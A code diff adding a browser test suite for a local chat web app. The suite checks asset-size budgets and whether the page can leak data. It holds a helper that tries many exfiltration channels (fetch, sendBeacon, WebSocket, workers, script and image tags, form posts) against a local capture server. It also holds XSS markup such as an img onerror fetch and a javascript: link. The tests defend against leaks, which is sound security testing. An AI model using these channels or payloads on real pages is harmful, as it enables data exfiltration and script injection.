@@ -1,0 +1,206 @@
+/** What the chat page may do: ask its own server, and one worker the hub. And what it may weigh. */
+import { createServer } from 'node:http'
+import { readdir, readFile } from 'node:fs/promises'
+import type { AddressInfo } from 'node:net'
+import path from 'node:path'
+import { brotliCompressSync } from 'node:zlib'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { hasBrowser } from '../browser/chromium.ts'
+import { ask, openWeb, ready, type WebBench } from './bench.ts'
+
+/** Kilobytes after brotli: script and style of the page, and the engine with one build of its kernels. */
+const pageBudget = 150
+const engineBudget = 300
+
+const resources = new AsyncDisposableStack()
+let web: WebBench
+/** A server that would take anything, and what it got. */
+let stranger: string
+const told: string[] = []
+
+/** Every way in which a page could tell somebody something without leaving; resolves when all were tried. */
+async function tellEverybody(address: string): Promise<void> {
+  const quietly = (attempt: () => unknown): Promise<unknown> =>
+    Promise.resolve()
+      .then(attempt)
+      .catch(() => undefined)
+  const load = (tag: string, attributes: Readonly<Record<string, string>>): Promise<unknown> =>
+    quietly(
+      () =>
+        new Promise((resolve) => {
+          const element = document.createElement(tag)
+          element.addEventListener('load', resolve)
+          element.addEventListener('error', resolve)
+          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+          document.head.append(element)
+          setTimeout(resolve, 500)
+        }),
+    )
+  await Promise.all([
+    quietly(() => fetch(`${address}/fetch`, { mode: 'no-cors' })),
+    quietly(() => fetch(`${address}/post`, { method: 'POST', mode: 'no-cors', body: 'secret', keepalive: true })),
+    quietly(() => navigator.sendBeacon(`${address}/beacon`, 'secret')),
+    quietly(() => new WebSocket(address.replace('http', 'ws'))),
+    quietly(() => new EventSource(`${address}/events`)),
+    quietly(() => new Worker(`${address}/worker.js`)),
+    quietly(() => import(`${address}/module.js`)),
+    quietly(() => {
+      const request = new XMLHttpRequest()
+      request.open('GET', `${address}/xhr`)
+      request.send()
+    }),
+    load('script', { src: `${address}/script.js` }),
+    load('img', { src: `${address}/image.png` }),
+    load('link', { rel: 'stylesheet', href: `${address}/style.css` }),
+    load('link', { rel: 'preload', as: 'fetch', href: `${address}/preload` }),
+    load('link', { rel: 'prefetch', href: `${address}/prefetch` }),
+    load('iframe', { src: `${address}/frame` }),
+    load('video', { src: `${address}/video` }),
+    load('object', { data: `${address}/object` }),
+    quietly(() => {
+      const form = document.createElement('form')
+      form.method = 'post'
+      form.action = `${address}/form`
+      form.target = 'somewhere'
+      document.body.append(form)
+      form.submit()
+    }),
+  ])
+}
+
+describe.skipIf(!hasBrowser)('the policy of the chat page', () => {
+  beforeAll(async () => {
+    web = resources.use(await openWeb())
+    const server = createServer((request, response) => {
+      told.push(request.url ?? '')
+      response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
+    })
+    server.on('upgrade', (request, socket) => {
+      told.push(`upgrade ${request.url}`)
+      socket.destroy()
+    })
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+    resources.defer(() => {
+      server.closeAllConnections()
+      server.close()
+    })
+    stranger = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+  }, 180_000)
+  afterAll(() => resources.disposeAsync())
+
+  it.each(['our server', 'a host without headers'])('lets nothing out of the page: on %s', async (host) => {
+    const site = host === 'our server' ? web.site : web.plain
+    const { page, context } = await web.visit(`${site.origin}/`)
+    await expect.poll(() => page.evaluate(() => crossOriginIsolated).catch(() => false)).toBe(true)
+    await ready(page)
+    told.length = 0
+    await page.evaluate(tellEverybody, stranger)
+    // Not even to the hub: the page itself has nothing to ask there.
+    web.hub.asked.length = 0
+    await page.evaluate(tellEverybody, web.hub.endpoint)
+    expect(told).toEqual([])
+    expect(web.hub.asked).toEqual([])
+    await context.close()
+  })
+
+  it('the server of this test hears what is told from elsewhere', async () => {
+    const { page, context } = await web.visit(`${web.hub.endpoint}/`)
+    told.length = 0
+    await page.evaluate((address) => fetch(`${address}/fetch`, { mode: 'no-cors' }), stranger)
+    expect(told).toEqual(['/fetch'])
+    await context.close()
+  })
+
+  it('lets nothing out of the engine, and only the worker of the downloads to the hub', async () => {
+    const { page, context } = await web.visit(`${web.site.origin}/#/models`)
+    await page.getByText('In use').waitFor()
+    await page.getByLabel('Another model by its name').fill('org/model')
+    await page.getByRole('button', { name: 'Look up' }).click()
+    await page.getByText('of memory with a context of').waitFor()
+    const workerOf = (script: string) => page.workers().find((worker) => worker.url().includes(script))
+    const reaches = async (script: string, address: string): Promise<boolean | undefined> =>
+      await workerOf(script)?.evaluate(
+        (to) =>
+          fetch(to).then(
+            () => true,
+            () => false,
+          ),
+        address,
+      )
+    told.length = 0
+    expect(await reaches('engine-worker', `${stranger}/fetch`)).toBe(false)
+    expect(await reaches('engine-worker', `${web.hub.endpoint}/api`)).toBe(false)
+    expect(await reaches('downloads.worker', `${stranger}/fetch`)).toBe(false)
+    expect(told).toEqual([])
+    expect(await reaches('downloads.worker', `${web.hub.endpoint}/api`)).toBe(true)
+    await context.close()
+  })
+
+  it('shows what a model writes as text, and fetches nothing for it', async () => {
+    const { page, context } = await web.visit()
+    await ready(page)
+    told.length = 0
+    const markup = [
+      `<img src="${stranger}/picture.png" onerror="fetch('${stranger}/script')">`,
+      `<script>fetch('${stranger}/script')</script>`,
+      `![picture](${stranger}/picture.png)`,
+      '[link](javascript:alert(1)) and **bold**',
+      '```js\nlet code = "<b>"\n```',
+    ].join('\n\n')
+    const file = {
+      messages: [
+        { role: 'user', content: 'show' },
+        { role: 'assistant', content: markup },
+      ],
+    }
+    await page.goto(`${web.site.origin}/#/settings`)
+    const buffer = Buffer.from(JSON.stringify(file))
+    await page.locator('input[accept*=json]').setInputFiles([{ name: 'a.json', mimeType: 'application/json', buffer }])
+    await page.getByText('One conversation was added.').waitFor()
+    await page.locator('.conversations').getByRole('link', { name: 'show' }).click()
+    const answer = page.locator('.answer .markdown')
+    await answer.waitFor()
+    expect(await answer.locator('img, script').count()).toBe(0)
+    expect(await answer.innerText()).toContain('<script>')
+    expect(await answer.locator('strong').innerText()).toBe('bold')
+    expect(await answer.locator('pre code').innerText()).toContain('let code = "<b>"')
+    expect(await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
+      `${stranger}/picture.png`,
+    ])
+    await page.getByRole('button', { name: 'Copy code' }).waitFor()
+    expect(told).toEqual([])
+    await context.close()
+  })
+
+  it('a whole visit asks nobody but its server', async () => {
+    const { page, context } = await web.visit('about:blank')
+    const addresses: string[] = []
+    context.on('request', (request) => addresses.push(request.url()))
+    await page.goto(`${web.site.origin}/`)
+    await ready(page)
+    await ask(page, 'What is 27 plus 15?')
+    expect(addresses.length).toBeGreaterThan(5)
+    expect(addresses.filter((address) => !address.startsWith(`${web.site.origin}/`))).toEqual([])
+    await context.close()
+  })
+
+  it(`weighs at most ${pageBudget} kB, and the engine ${engineBudget} kB, after brotli`, async () => {
+    const names = await readdir(path.join(web.folder, 'assets'))
+    const weigh = async (form: RegExp): Promise<number> => {
+      const sizes = names
+        .filter((name) => form.test(name))
+        .map(async (name) => {
+          return brotliCompressSync(await readFile(path.join(web.folder, 'assets', name))).length
+        })
+      return (await Promise.all(sizes)).reduce((sum, size) => sum + size, 0) / 1000
+    }
+    const page = await weigh(/^page-.*\.(?:js|css)$/)
+    const engine = await weigh(/^(?:engine-worker|worker|relaxed-threads)-/)
+    console.log(`chat page: ${page.toFixed(1)} kB, engine with kernels: ${engine.toFixed(1)} kB (brotli)`)
+    // Something is there to weigh.
+    expect(page).toBeGreaterThan(10)
+    expect(engine).toBeGreaterThan(30)
+    expect(page).toBeLessThanOrEqual(pageBudget)
+    expect(engine).toBeLessThanOrEqual(engineBudget)
+  })
+})
